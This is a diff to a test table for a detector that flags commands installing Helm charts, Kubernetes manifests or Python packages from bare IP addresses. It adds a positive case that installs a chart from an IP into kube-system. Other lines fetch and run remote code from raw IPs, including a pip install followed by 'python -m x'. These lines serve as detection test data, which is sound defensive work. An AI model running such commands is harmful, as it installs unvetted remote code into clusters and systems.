@@ -3,6 +3,7 @@ import { commandPackageFromAddress } from './package-from-address.ts';
 
 indicatorTable(commandPackageFromAddress, {
   fires: {
+    'a chart': script('helm install a http://203.0.113.9/c-0.1.0.tgz -n kube-system'),
     'objects at an address': script('kubectl apply -n shop -f http://9.9.9.9/ds.yaml'),
     'the same in one word': script('oc create --filename=https://9.9.9.9:8443/ds.yaml'),
     'a repository at an address': script('pip install git+http://9.9.9.9/x.git && python -m x'),
@@ -33,6 +34,7 @@ indicatorTable(commandPackageFromAddress, {
     ),
   },
   staysSilent: {
+    'a chart of a host with a name': script('helm upgrade --install a https://charts.example.com/a-1.tgz'),
     'objects of a known host': script('kubectl apply -f https://github.com/acme/x/releases/download/v1/x.yaml'),
     'objects of the own network': script('kubectl apply -f http://10.0.0.7/x.yaml'),
     'objects in a file': script('kubectl apply -f /manifests/x.yaml'),
